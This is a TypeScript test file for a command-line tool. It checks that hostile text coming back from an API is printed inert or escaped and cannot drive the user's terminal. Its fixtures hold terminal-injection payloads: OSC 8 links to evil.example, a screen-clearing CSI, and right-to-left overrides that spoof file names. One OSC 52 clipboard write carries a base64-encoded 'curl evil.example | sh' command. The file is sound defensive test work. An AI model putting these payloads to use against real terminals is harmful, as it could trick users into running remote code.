import assert from 'node:assert/strict';
import { singleLine, terminalJson } from '../../src/core/format';
import { buildCli, runCliProcess, type CliOutcome } from './support/cliProcess';
import { PROJECT, RUN_ID, startHostileParagon, type HostileParagon, type HostileParagonOptions } from './support/hostileParagon';

const KEY = 'thx-terminal-spec-key-41d9e2';
const ESC = '\u001b';
const BEL = '\u0007';

// An OSC 8 hyperlink hiding where it points, an OSC 52 clipboard write, the same in C1 form
// (U+009D OSC, U+009C ST), a CSI that clears the screen, and a right-to-left override.
const OSC8 = `${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`;
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`;
const C1_OSC = '\u009d8;;https://evil.example/\u009c';
const HOSTILE = `wf-${OSC8}${OSC52}${C1_OSC}${ESC}[2J\u009b31m\u202egnp.exe`;

/** Control characters a terminal obeys: C0 but newline, DEL, C1. And the bidi overrides/isolates. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function assertClean(result: CliOutcome): void {
  const all = result.stdout + result.stderr;
  const found = RAW_CONTROL.exec(all);
  assert.equal(found, null, `raw control U+${found?.[0]!.charCodeAt(0).toString(16).padStart(4, '0')} in: ${JSON.stringify(all)}`);
}

describe('Terminal safety: API text cannot drive the terminal', function () {
  this.timeout(60_000);

  describe('terminalJson', () => {
    it('writes C1 controls, DEL, LS/PS and bidi overrides/isolates as \\u escapes; the JSON parses to the same value', () => {
      const value = { name: `a\u0085b\u009bc\u007fd\u2028e\u202ef\u2066g\u2069h`, list: [HOSTILE], n: 1 };
      for (const space of [undefined, 2]) {
        const text = terminalJson(value, space);
        assert.doesNotMatch(text, RAW_CONTROL);
        assert.deepEqual(JSON.parse(text), value);
        assert.match(text, /\\u0085/);
        assert.match(text, /\\u202e/);
      }
      assert.equal(terminalJson(undefined), 'null');
    });

    it('singleLine keeps its behaviour: controls become spaces, overrides are shown as code points', () => {
      assert.equal(singleLine(`a${ESC}[2Jb\n\u009bc\u202ed`), 'a [2Jb c<U+202E>d');
    });
  });

  describe('the command line (dist/cli.js)', () => {
    const servers: HostileParagon[] = [];
    const serve = async (options: Omit<HostileParagonOptions, 'key'>) => {
      const server = await startHostileParagon({ key: KEY, ...options });
      servers.push(server);
      return server;
    };
    before(async function () {
      this.timeout(120_000);
      await buildCli();
    });
    afterEach(async () => {
      await Promise.all(servers.splice(0).map((s) => s.close()));
    });
    const cli = (server: HostileParagon, args: string[]) =>
      runCliProcess([...args, '--source', 'paragon', '--base-url', server.origin, '--project', PROJECT], { TASK_HISTORY_API_KEY: KEY });

    it('replay: a workflow id with OSC 8 / OSC 52 / C1 sequences is printed inert (and shell-quoted in the suggested command)', async () => {
      const server = await serve({ workflowId: HOSTILE, replay: 'created' });
      const result = await cli(server, ['replay', RUN_ID, '--yes']);
      assert.equal(result.code, 0, result.stderr);
      assert.match(result.stdout, /Replay requested for /);
      assert.match(result.stdout, /--workflow 'wf- \]8;;https:\/\/evil\.example\/ \\click me/);
      assertClean(result);
      assert.equal(server.replays(), 1);
    });

    it('replay with an unknown outcome: the hostile workflow id in the "check the history" advice is inert too', async () => {
      const server = await serve({ workflowId: HOSTILE, replay: '502', replayActs: false });
      const result = await cli(server, ['replay', RUN_ID, '--yes', '--wait', '0']);
      assert.equal(result.code, 1, result.stderr);
      assert.match(result.stderr, /Check the history before replaying again/);
      assertClean(result);
    });

    it('--verbose: a server error text with ESC, BEL and C1 controls is printed inert (404 on GET, 502 on the replay POST)', async () => {
      const message = `gone ${ESC}[2J${ESC}]0;owned${BEL}\u0085\u009b31m${OSC52} ${'\u202e'}txt.exe`;
      const notFound = await serve({ getStatus: 404, errorMessage: message });
      const first = await cli(notFound, ['show', RUN_ID, '--verbose']);
      assert.equal(first.code, 4, first.stderr);
      assert.match(first.stderr, /http: NotFoundError: GET .* → 404: gone {2}\[2J \]0;owned/);
      assertClean(first);

      const failing = await serve({ replay: '502', replayActs: false });
      const second = await cli(failing, ['replay', RUN_ID, '--yes', '--verbose', '--wait', '0']);
      assert.match(second.stderr, /http: /);
      assertClean(second);
    });

    it("show --json: C1 controls and a right-to-left override are \\u escapes; the output parses to the API's values", async () => {
      const workflowId = `wf\u0085\u009b31m\u202eexe.txt\u2066x\u2069`;
      const userId = `user\u009d8;;https://evil.example/\u009c`;
      const server = await serve({ workflowId, userId });
      const result = await cli(server, ['show', RUN_ID, '--json']);
      assert.equal(result.code, 0, result.stderr);
      assertClean(result);
      const parsed = JSON.parse(result.stdout) as { workflowId: string; userId: string };
      assert.equal(parsed.workflowId, workflowId);
      assert.equal(parsed.userId, userId);
    });

    it("list --json: C1 controls and a right-to-left override are \\u escapes; the output parses to the API's values", async () => {
      const workflowId = `wf\u0085\u009b31m\u202eexe.txt\u2066x\u2069`;
      const server = await serve({ workflowId });
      const result = await cli(server, ['list', '--json']);
      assert.equal(result.code, 0, result.stderr);
      assertClean(result);
      const parsed = JSON.parse(result.stdout) as { workflowId: string }[];
      assert.ok(parsed.length > 0);
      assert.ok(parsed.some((run) => run.workflowId === workflowId));
    });

    it('show (text): the same fields are shown without raw controls', async () => {
      const server = await serve({ workflowId: HOSTILE, userId: `u${C1_OSC}` });
      const result = await cli(server, ['show', RUN_ID]);
      assert.equal(result.code, 0, result.stderr);
      assertClean(result);
    });
  });
});
